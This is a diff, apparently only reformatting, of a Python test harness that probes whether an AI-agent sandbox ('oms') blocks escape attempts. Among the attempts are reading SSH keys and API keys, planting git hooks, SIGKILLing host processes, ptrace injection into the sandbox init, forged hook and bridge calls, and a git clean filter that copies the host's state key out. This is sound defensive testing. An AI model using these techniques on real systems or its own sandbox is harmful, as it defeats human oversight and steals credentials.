@@ -92,12 +92,16 @@ class Blocked(Exception):
 
 
 def attempt(name, fn):
-    """An attack returns a description when it worked, raises OSError (or Blocked) when it was blocked; any
-    other exception is a bug in the attack, reported as an error (never counted as blocked)."""
+    """An attack returns a description when it worked, raises OSError (or Blocked) when it was
+    blocked; any other exception is a bug in the attack, reported as an error (never counted as
+    blocked)."""
     try:
         detail = fn()
     except (OSError, Blocked, subprocess.TimeoutExpired) as exc:
-        RESULTS[name] = {"outcome": "blocked", "detail": (type(exc).__name__ + ": " + str(exc))[:600]}
+        RESULTS[name] = {
+            "outcome": "blocked",
+            "detail": (type(exc).__name__ + ": " + str(exc))[:600],
+        }
     except Exception as exc:
         RESULTS[name] = {"outcome": "error", "detail": (type(exc).__name__ + ": " + str(exc))[:600]}
     else:
@@ -146,7 +150,8 @@ def listdir(path):
 
 
 def found(items, otherwise):
-    """`items` when there are any (the attack saw something), else blocked for the reason `otherwise`."""
+    """`items` when there are any (the attack saw something), else blocked for the reason
+    `otherwise`."""
     if items:
         return items
     raise Blocked(otherwise)
@@ -193,7 +198,8 @@ def hunt():
 
 
 def only_the_planned_binds():
-    """Every directory on the way to a bind holds only what leads to a bind: no other host path shows."""
+    """Every directory on the way to a bind holds only what leads to a bind: no other host path
+    shows."""
     binds = T["binds"]
     extra = set()
     for path in binds:
@@ -202,9 +208,13 @@ def only_the_planned_binds():
             parent = "/" + "/".join(parts[:i])
             if any(parent == b or parent.startswith(b.rstrip("/") + "/") for b in binds):
                 break
-            expected = {p.strip("/").split("/")[i] for p in binds if p.startswith(parent.rstrip("/") + "/")}
+            expected = {
+                p.strip("/").split("/")[i] for p in binds if p.startswith(parent.rstrip("/") + "/")
+            }
             if parent == "/":
-                expected |= {"proc", "dev", "tmp", "var", "oms"} | {s.strip("/") for s in T["system"]}
+                expected |= {"proc", "dev", "tmp", "var", "oms"} | {
+                    s.strip("/") for s in T["system"]
+                }
             extra |= {parent.rstrip("/") + "/" + k for k in set(os.listdir(parent)) - expected}
     if extra:
         return sorted(extra)
@@ -212,8 +222,9 @@ def only_the_planned_binds():
 
 
 def processes():
-    """{pid: (cmdline, is this sandbox's)}: a process whose entry is gone or hidden (an empty /proc/<pid>,
-    e.g. the init oms masks) shows nothing and is left out; one we may not read counts as foreign."""
+    """{pid: (cmdline, is this sandbox's)}: a process whose entry is gone or hidden (an empty
+    /proc/<pid>, e.g. the init oms masks) shows nothing and is left out; one we may not read counts
+    as foreign."""
     out = {}
     for pid in os.listdir("/proc"):
         if pid.isdigit():
@@ -225,7 +236,10 @@ def processes():
                 continue
             except OSError as exc:
                 cmd, env = "unreadable: %s" % exc, []
-            out[int(pid)] = (cmd, ("OMS_DISPATCH_ID=" + os.environ["OMS_DISPATCH_ID"]).encode() in env)
+            out[int(pid)] = (
+                cmd,
+                ("OMS_DISPATCH_ID=" + os.environ["OMS_DISPATCH_ID"]).encode() in env,
+            )
     return out
 
 
@@ -244,6 +258,7 @@ def signal_host_pid(pid):
             raise Blocked("pid %d also exists inside (not the host's): not tried" % pid)
         os.kill(pid, signal.SIGKILL)
         return "SIGKILL delivered to %d" % pid
+
     return attack
 
 
@@ -315,10 +330,27 @@ def abstract_sockets():
 
 
 def relay_hook(dispatch, session, provider="command", version="command-1", tools=""):
-    body = json.dumps({"hook_event_name": "SessionStart", "session_id": session, "source": "startup"})
-    _, out = run(os.environ["OMS_EXECUTABLE"], "hook", "provider", "--event", "SessionStart", "--provider", provider,
-                 "--provider-version", version, "--dispatch-id", dispatch, "--session-id", session,
-                 "--allowed-tools", tools, stdin=body.encode())
+    body = json.dumps(
+        {"hook_event_name": "SessionStart", "session_id": session, "source": "startup"}
+    )
+    _, out = run(
+        os.environ["OMS_EXECUTABLE"],
+        "hook",
+        "provider",
+        "--event",
+        "SessionStart",
+        "--provider",
+        provider,
+        "--provider-version",
+        version,
+        "--dispatch-id",
+        dispatch,
+        "--session-id",
+        session,
+        "--allowed-tools",
+        tools,
+        stdin=body.encode(),
+    )
     return out
 
 
@@ -328,19 +360,41 @@ def forged_hook(*args, **kw):
         if "read_dispatch" in out:
             return "accepted: " + out
         raise Blocked(out.strip()[:300])
+
     return attack
 
 
 def relay_bridge(dispatch, session):
     lines = [
-        {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25",
-         "capabilities": {}, "clientInfo": {"name": "escape", "version": "1"}}},
+        {
+            "jsonrpc": "2.0",
+            "id": 1,
+            "method": "initialize",
+            "params": {
+                "protocolVersion": "2025-11-25",
+                "capabilities": {},
+                "clientInfo": {"name": "escape", "version": "1"},
+            },
+        },
         {"jsonrpc": "2.0", "method": "notifications/initialized"},
-        {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_dispatch", "arguments": {}}},
+        {
+            "jsonrpc": "2.0",
+            "id": 2,
+            "method": "tools/call",
+            "params": {"name": "read_dispatch", "arguments": {}},
+        },
     ]
     data = "".join(json.dumps(x) + "\n" for x in lines).encode()
-    _, out = run(os.environ["OMS_EXECUTABLE"], "worker", "bridge", "--dispatch-id", dispatch, "--session-id", session,
-                 stdin=data)
+    _, out = run(
+        os.environ["OMS_EXECUTABLE"],
+        "worker",
+        "bridge",
+        "--dispatch-id",
+        dispatch,
+        "--session-id",
+        session,
+        stdin=data,
+    )
     return out
 
 
@@ -350,6 +404,7 @@ def forged_bridge(dispatch, session):
         if '"result"' in out:
             return "served: " + out[:600]
         raise Blocked(out.strip()[:300])
+
     return attack
 
 
@@ -366,7 +421,8 @@ if mount --bind "$wt" /tmp/escape-wt 2>/dev/null; then
 fi
 if mount --rbind "$wt" /tmp/escape-rwt 2>/dev/null; then
   umount /tmp/escape-rwt/.claude 2>/dev/null && echo RBIND-UMOUNT-WORKED &&
-    mkdir -p /tmp/escape-rwt/.claude && printf '{}' > /tmp/escape-rwt/.claude/settings.json && echo RBIND-WRITE-WORKED
+    mkdir -p /tmp/escape-rwt/.claude &&
+    printf '{}' > /tmp/escape-rwt/.claude/settings.json && echo RBIND-WRITE-WORKED
 fi
 echo NESTED-NAMESPACE-RAN
 """
@@ -400,9 +456,10 @@ def spawn_detached():
 
 def ptrace_init():
     """Make the sandbox's init (bubblewrap, pid 1 here, the same uid) call setsid() and
-    prctl(PR_SET_PDEATHSIG, 0) by syscall injection (x86_64): it leaves the supervisor's process group and no
-    longer dies with its parent."""
+    prctl(PR_SET_PDEATHSIG, 0) by syscall injection (x86_64): it leaves the supervisor's process
+    group and no longer dies with its parent."""
     import platform
+
     if platform.machine() != "x86_64":
         raise Blocked("injection is written for x86_64 only")
     libc = ctypes.CDLL(None, use_errno=True)
@@ -410,15 +467,21 @@ def ptrace_init():
     libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
 
     class Regs(ctypes.Structure):
-        _fields_ = [(n, ctypes.c_ulonglong) for n in (
-            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
-            "fs_base gs_base ds es fs gs").split()]
+        _fields_ = [
+            (n, ctypes.c_ulonglong)
+            for n in (
+                "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
+                "eflags rsp ss fs_base gs_base ds es fs gs"
+            ).split()
+        ]
 
     def ptrace(req, addr=None, data=None):
         ctypes.set_errno(0)
         r = libc.ptrace(req, 1, addr, data)
         if r == -1 and ctypes.get_errno():
-            raise OSError(ctypes.get_errno(), "ptrace(%d, 1): %s" % (req, os.strerror(ctypes.get_errno())))
+            raise OSError(
+                ctypes.get_errno(), "ptrace(%d, 1): %s" % (req, os.strerror(ctypes.get_errno()))
+            )
         return r
 
     ptrace(16)  # PTRACE_ATTACH
@@ -481,56 +544,139 @@ def everything():
     attempt("state: list panes (launch specs, sockets)", lambda: listdir(state + "/panes"))
     attempt("state: create a file in evidence/", lambda: create(state + "/evidence/" + T["mark"]))
     attempt("state: create a file in records/", lambda: create(state + "/records/" + T["mark"]))
-    attempt("sandboxes: list the sandbox directory (every home, broker and door)",
-            lambda: listdir(T["sandboxes"]))
-    attempt("sandboxes: read the victim's home",
-            lambda: listdir(T["sandboxes"] + "/homes/command-" + victim[1]))
-    attempt("state: /oms holds more than home and broker.sock",
-            lambda: found(sorted(set(os.listdir("/oms")) - {"home", "broker.sock"}), "only home and broker.sock"))
+    attempt(
+        "sandboxes: list the sandbox directory (every home, broker and door)",
+        lambda: listdir(T["sandboxes"]),
+    )
+    attempt(
+        "sandboxes: read the victim's home",
+        lambda: listdir(T["sandboxes"] + "/homes/command-" + victim[1]),
+    )
+    attempt(
+        "state: /oms holds more than home and broker.sock",
+        lambda: found(
+            sorted(set(os.listdir("/oms")) - {"home", "broker.sock"}), "only home and broker.sock"
+        ),
+    )
     # 2. the main repository, its git metadata, git itself
-    attempt("git: open the main .git/config for writing", lambda: open_for_write(common + "/config"))
-    attempt("git: read the user's remotes and credentials in .git/config",
-            lambda: found([1] if T["config_secret"] in open(common + "/config").read() else [], "a sanitised config"))
-    attempt("git: read the repository's hooks", lambda: found(os.listdir(common + "/hooks"), "no hooks shown"))
-    attempt("git: the sanitised config keeps git from reading the repository",
-            lambda: found([1] if run("git", "-C", wt, "log", "-1", "--format=%H")[0] != 0 else [], "git reads it"))
-    attempt("git: plant a hook in the main .git/hooks", lambda: create(common + "/hooks/post-checkout"))
-    attempt("git: set core.hooksPath", lambda: succeeds("git", "-C", wt, "config", "core.hooksPath", "/oms/home"))
-    attempt("git: commit in the worktree",
-            lambda: succeeds("git", "-C", wt, "-c", "user.name=x", "-c", "user.email=x@x", "commit",
-                             "--allow-empty", "-qm", "escape"))
-    attempt("git: move a branch", lambda: succeeds("git", "-C", wt, "update-ref", "refs/heads/escape", "HEAD"))
+    attempt(
+        "git: open the main .git/config for writing", lambda: open_for_write(common + "/config")
+    )
+    attempt(
+        "git: read the user's remotes and credentials in .git/config",
+        lambda: found(
+            [1] if T["config_secret"] in open(common + "/config").read() else [],
+            "a sanitised config",
+        ),
+    )
+    attempt(
+        "git: read the repository's hooks",
+        lambda: found(os.listdir(common + "/hooks"), "no hooks shown"),
+    )
+    attempt(
+        "git: the sanitised config keeps git from reading the repository",
+        lambda: found(
+            [1] if run("git", "-C", wt, "log", "-1", "--format=%H")[0] != 0 else [], "git reads it"
+        ),
+    )
+    attempt(
+        "git: plant a hook in the main .git/hooks", lambda: create(common + "/hooks/post-checkout")
+    )
+    attempt(
+        "git: set core.hooksPath",
+        lambda: succeeds("git", "-C", wt, "config", "core.hooksPath", "/oms/home"),
+    )
+    attempt(
+        "git: commit in the worktree",
+        lambda: succeeds(
+            "git",
+            "-C",
+            wt,
+            "-c",
+            "user.name=x",
+            "-c",
+            "user.email=x@x",
+            "commit",
+            "--allow-empty",
+            "-qm",
+            "escape",
+        ),
+    )
+    attempt(
+        "git: move a branch",
+        lambda: succeeds("git", "-C", wt, "update-ref", "refs/heads/escape", "HEAD"),
+    )
     attempt("git: write the worktree's .git file", lambda: open_for_write(wt + "/.git"))
     attempt("git: write this worktree's gitdir", lambda: open_for_write(T["gitdir"] + "/HEAD"))
-    attempt("git: see another worktree's gitdir",
-            lambda: found(sorted(set(os.listdir(common + "/worktrees")) - {os.path.basename(T["gitdir"])}),
-                          "only its own gitdir"))
+    attempt(
+        "git: see another worktree's gitdir",
+        lambda: found(
+            sorted(set(os.listdir(common + "/worktrees")) - {os.path.basename(T["gitdir"])}),
+            "only its own gitdir",
+        ),
+    )
     attempt("repo: write the main working tree", lambda: open_for_write(repo + "/README.md"))
-    attempt("repo: write the committed oms config", lambda: open_for_write(repo + "/.oms/config.toml"))
-    attempt("repo: write the victim's worktree", lambda: open_for_write(T["victim_worktree"] + "/README.md"))
+    attempt(
+        "repo: write the committed oms config", lambda: open_for_write(repo + "/.oms/config.toml")
+    )
+    attempt(
+        "repo: write the victim's worktree",
+        lambda: open_for_write(T["victim_worktree"] + "/README.md"),
+    )
     # 3. the user's home (the test's fake one, and the real one of this uid)
-    for rel in (".ssh/id_test", ".gitconfig", ".codex/config.toml", ".claude/settings.json", ".config/oms/secret"):
+    for rel in (
+        ".ssh/id_test",
+        ".gitconfig",
+        ".codex/config.toml",
+        ".claude/settings.json",
+        ".config/oms/secret",
+    ):
         attempt("home: read ~/" + rel, lambda rel=rel: read(T["user_home"] + "/" + rel))
     for name in T["real_home_entries"]:
-        attempt("home: reach the real ~/" + name, lambda name=name: listdir(T["real_home"] + "/" + name)
-                if os.path.isdir(T["real_home"] + "/" + name) else read(T["real_home"] + "/" + name))
+        attempt(
+            "home: reach the real ~/" + name,
+            lambda name=name: (
+                listdir(T["real_home"] + "/" + name)
+                if os.path.isdir(T["real_home"] + "/" + name)
+                else read(T["real_home"] + "/" + name)
+            ),
+        )
     # 4. oms's tmux server
     attempt("tmux: see the socket", lambda: os.stat(state + "/tmux.sock"))
-    attempt("tmux: list sessions through it", lambda: succeeds("tmux", "-S", state + "/tmux.sock", "ls"))
+    attempt(
+        "tmux: list sessions through it", lambda: succeeds("tmux", "-S", state + "/tmux.sock", "ls")
+    )
     attempt("tmux: connect to it", lambda: connect(state + "/tmux.sock"))
     # 5. the agent configuration placeholders
-    for name, inner in ((".codex", "config.toml"), (".claude", "settings.json"), (".mcp.json", "x")):
-        attempt("config: create %s/%s" % (name, inner), lambda p=wt + "/" + name + "/" + inner: create(p))
+    for name, inner in (
+        (".codex", "config.toml"),
+        (".claude", "settings.json"),
+        (".mcp.json", "x"),
+    ):
+        attempt(
+            "config: create %s/%s" % (name, inner),
+            lambda p=wt + "/" + name + "/" + inner: create(p),
+        )
         attempt("config: rmdir " + name, lambda p=wt + "/" + name: os.rmdir(p))
         attempt("config: rename " + name, lambda p=wt + "/" + name: os.rename(p, p + ".moved"))
     attempt("config: write .mcp.json as a file", lambda: open_for_write(wt + "/.mcp.json"))
-    attempt("config: unshare -Urm, then umount/remount/bind the placeholders", nested_namespace_tricks)
-    # for a worktree whose .codex exists (the placeholder), Codex 0.171 reads the main checkout's .codex/
-    attempt("config: read the config root's own .codex/hooks.json", lambda: read(repo + "/.codex/hooks.json"))
+    attempt(
+        "config: unshare -Urm, then umount/remount/bind the placeholders", nested_namespace_tricks
+    )
+    # for a worktree whose .codex exists (the placeholder), Codex 0.171 reads the main checkout's
+    # .codex/
+    attempt(
+        "config: read the config root's own .codex/hooks.json",
+        lambda: read(repo + "/.codex/hooks.json"),
+    )
     # 7. credentials on command lines (and in this command worker's environment)
     attempt("keys: on a command line inside", keys_on_command_lines)
-    attempt("keys: in a command worker's environment",
-            lambda: found([k for k in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY") if k in os.environ], "absent"))
+    attempt(
+        "keys: in a command worker's environment",
+        lambda: found(
+            [k for k in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY") if k in os.environ], "absent"
+        ),
+    )
     # 8. processes and signals
     attempt("signal: see a process that is not this sandbox's", only_own_processes)
     host = wait_for_host()
@@ -538,8 +684,10 @@ def everything():
     for what, pid in sorted(host.items()):
         attempt("signal: SIGKILL %s (host pid %d)" % (what, pid), signal_host_pid(pid))
     # 9. other sockets, forged bindings
-    attempt("socket: connect to the victim's broker",
-            lambda: connect(T["sandboxes"] + "/brokers/%s.sock" % victim[0]))
+    attempt(
+        "socket: connect to the victim's broker",
+        lambda: connect(T["sandboxes"] + "/brokers/%s.sock" % victim[0]),
+    )
     attempt("socket: connect to any socket path in /proc/net/unix", listed_socket_paths)
     attempt("socket: connect to an abstract socket", abstract_sockets)
     SEEN["control_hook"] = relay_hook(*own)[-300:]
@@ -559,9 +707,15 @@ def everything():
         attempt("owner-only: read " + path, lambda path=path: read(path) or "read (empty)")
     # 12. oms's own runtime
     for root in T["runtime"]:
-        attempt("runtime: create a file in " + root, lambda root=root: create(root + "/" + T["mark"]))
-    attempt("runtime: open oms/__init__.py for writing", lambda: open_for_write(T["oms_package"] + "/__init__.py"))
-    # 6. detached processes, then the normal run (the demo worker: both doors, a result, then it waits)
+        attempt(
+            "runtime: create a file in " + root, lambda root=root: create(root + "/" + T["mark"])
+        )
+    attempt(
+        "runtime: open oms/__init__.py for writing",
+        lambda: open_for_write(T["oms_package"] + "/__init__.py"),
+    )
+    # 6. detached processes, then the normal run (the demo worker: both doors, a result, then it
+    #    waits)
     spawn_detached()
     publish("attack.json", {"results": RESULTS, "seen": SEEN})
 
@@ -577,15 +731,18 @@ elif MODE in ("spawn", "ptrace-spawn"):
     publish("spawned.json", {"results": RESULTS})
     os.execv("/bin/sleep", ["sleep", "600"])
 elif MODE == "nested-repo":
-    # A nested repository in the worktree whose own config names a clean filter: harmless inside, but oms
-    # commits the worktree (a gitlink) and then runs `git status --ignore-submodules=none` on the host, which
-    # runs `git status` in the nested repository with that config. The filter copies the state key out.
+    # A nested repository in the worktree whose own config names a clean filter: harmless inside,
+    # but oms commits the worktree (a gitlink) and then runs `git status --ignore-submodules=none`
+    # on the host, which runs `git status` in the nested repository with that config. The filter
+    # copies the state key out.
     sub = os.getcwd() + "/vendored"
     os.makedirs(sub)
     script = sub + "/clean.sh"
     with open(script, "w") as f:
-        f.write("#!/bin/sh\ncp '%s' '%s' 2>/dev/null\nid -u > '%s.uid' 2>/dev/null\ncat\n"
-                % (T["state"] + "/keys/state.ed25519", T["loot"], T["loot"]))
+        f.write(
+            "#!/bin/sh\ncp '%s' '%s' 2>/dev/null\nid -u > '%s.uid' 2>/dev/null\ncat\n"
+            % (T["state"] + "/keys/state.ed25519", T["loot"], T["loot"])
+        )
     os.chmod(script, 0o755)
     with open(sub + "/.gitattributes", "w") as f:
         f.write("*.txt filter=vendored\n")
@@ -611,17 +768,38 @@ elif MODE == "cli":
     attempt("home: read ~/.ssh/id_test", lambda: read(T["user_home"] + "/.ssh/id_test"))
     for name in T["home_ro"]:
         attempt("home file: write " + name, lambda p="/oms/home/" + name: open_for_write(p))
-        attempt("home file: replace " + name, lambda p="/oms/home/" + name: os.rename(p, p + ".old"))
+        attempt(
+            "home file: replace " + name, lambda p="/oms/home/" + name: os.rename(p, p + ".old")
+        )
         attempt("home file: remove " + name, lambda p="/oms/home/" + name: os.unlink(p))
     attempt("config: create .claude/settings.json", lambda: create(wt + "/.claude/settings.json"))
     attempt("config: create .codex/config.toml", lambda: create(wt + "/.codex/config.toml"))
     attempt("config: create .mcp.json/x", lambda: create(wt + "/.mcp.json/x"))
-    attempt("config: unshare -Urm, then umount/remount/bind the placeholders", nested_namespace_tricks)
+    attempt(
+        "config: unshare -Urm, then umount/remount/bind the placeholders", nested_namespace_tricks
+    )
     attempt("keys: on a command line inside", keys_on_command_lines)
-    attempt("git: commit in the worktree",
-            lambda: succeeds("git", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "--allow-empty", "-qm", "x"))
+    attempt(
+        "git: commit in the worktree",
+        lambda: succeeds(
+            "git",
+            "-c",
+            "user.name=x",
+            "-c",
+            "user.email=x@x",
+            "commit",
+            "--allow-empty",
+            "-qm",
+            "x",
+        ),
+    )
     print("ESCAPES=" + json.dumps({k: v["outcome"] for k, v in RESULTS.items()}))
-    print("DETAILS=" + json.dumps({k: v["detail"][:200] for k, v in RESULTS.items() if v["outcome"] != "blocked"}))
+    print(
+        "DETAILS="
+        + json.dumps(
+            {k: v["detail"][:200] for k, v in RESULTS.items() if v["outcome"] != "blocked"}
+        )
+    )
     held = [name for name, value in os.environ.items() if value in T["keys"]]
     print("CREDENTIALS=" + json.dumps(sorted(held)))  # names only: a real key reached the agent
     tokens = [name for name, value in os.environ.items() if value.startswith("oms.")]
